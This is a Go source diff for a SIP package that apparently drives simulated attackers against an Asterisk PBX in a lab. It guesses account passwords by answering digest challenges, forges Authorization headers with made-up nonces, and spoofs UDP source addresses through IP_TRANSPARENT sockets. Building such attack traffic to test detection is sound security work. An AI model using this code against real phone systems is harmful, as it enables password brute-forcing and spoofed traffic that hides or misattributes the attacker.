@@ -1,0 +1,109 @@
+package sip
+
+import (
+	"context"
+	"crypto/rand"
+	"errors"
+	"fmt"
+	"net"
+	"net/netip"
+	"syscall"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// answerTimeout is how long an attacker waits for an answer before its next attempt: well above the lab's few
+// milliseconds, and short enough that one that is dropped soon tries again.
+const answerTimeout = 300 * time.Millisecond
+
+// Attempt sends one request and tells whether the PBX answered. It does not answer a challenge.
+func (c *Client) Attempt(ctx context.Context, r Request) (*Message, error) {
+	r = c.Request(r)
+	if r.Method == "INVITE" && r.Body == "" {
+		r.Header = append(r.Header, fmt.Sprintf("Contact: <sip:%s@%s>", r.From, c.Local))
+	}
+	ctx, cancel := context.WithTimeout(ctx, answerTimeout)
+	defer cancel()
+	m, err := c.Do(ctx, r)
+	if err == nil && r.Method == "INVITE" {
+		ack := r
+		ack.Method, ack.Header, ack.ToTag = "ACK", nil, tagOf(m.Get("To"))
+		err = c.Send(ack)
+	}
+	return m, err
+}
+
+// MadeUp is an Authorization line with a nonce that the PBX never gave.
+func MadeUp(user, method, uri string) string {
+	return "Authorization: " + Challenge{Realm: "asterisk", Nonce: rand.Text()}.Answer(user, "guess", method, uri)
+}
+
+// Guess asks for a challenge and answers it with a password. It returns the PBX's last word. Asterisk raises one
+// failure for a wrong guess, and for one of an unknown account two events.
+func (c *Client) Guess(ctx context.Context, method, user, password string) (*Message, error) {
+	r := c.Request(Request{Method: method, From: user})
+	m, err := c.Attempt(ctx, r)
+	if err != nil {
+		return nil, err
+	}
+	ch, ok := ParseChallenge(m.Get("WWW-Authenticate"))
+	if !ok {
+		return m, nil
+	}
+	r.CSeq++
+	r.Branch = rand.Text()
+	r.Header = []string{"Authorization: " + ch.Answer(user, password, method, r.Target)}
+	return c.Attempt(ctx, r)
+}
+
+// Forger sends UDP packets that bear an address which is not its own.
+type Forger struct {
+	conn   *net.UDPConn
+	source netip.AddrPort
+}
+
+// NewForger forges packets of source to the PBX. It needs CAP_NET_ADMIN in the namespace (IP_TRANSPARENT, ip(7)).
+func NewForger(ctx context.Context, n Network, source, pbx netip.AddrPort) (*Forger, error) {
+	f := &Forger{source: source}
+	err := n.Do(func() error {
+		d := net.Dialer{LocalAddr: net.UDPAddrFromAddrPort(source), Control: transparent}
+		c, err := d.DialContext(ctx, "udp", pbx.String())
+		if err != nil {
+			return err
+		}
+		udp, ok := c.(*net.UDPConn)
+		if !ok {
+			return errors.Join(fmt.Errorf("not a UDP socket: %T", c), c.Close())
+		}
+		f.conn = udp
+		return nil
+	})
+	if err != nil {
+		return nil, fmt.Errorf("forge packets of %s: %w", source, err)
+	}
+	return f, nil
+}
+
+// transparent lets a socket take any address as its own.
+func transparent(network, _ string, raw syscall.RawConn) error {
+	var err error
+	ctl := raw.Control(func(fd uintptr) {
+		if network == "udp6" {
+			err = unix.SetsockoptInt(int(fd), unix.SOL_IPV6, unix.IPV6_TRANSPARENT, 1)
+			return
+		}
+		err = unix.SetsockoptInt(int(fd), unix.SOL_IP, unix.IP_TRANSPARENT, 1)
+	})
+	return errors.Join(ctl, err)
+}
+
+// Send forges one request. Answers go to whom it names.
+func (f *Forger) Send(r Request) error {
+	c := Client{Transport: UDP, Local: f.source, Remote: addrPort(f.conn.RemoteAddr())}
+	_, err := f.conn.Write(c.Request(r).Bytes(UDP, f.source.String()))
+	return err
+}
+
+// Close ends the forger.
+func (f *Forger) Close() error { return f.conn.Close() }
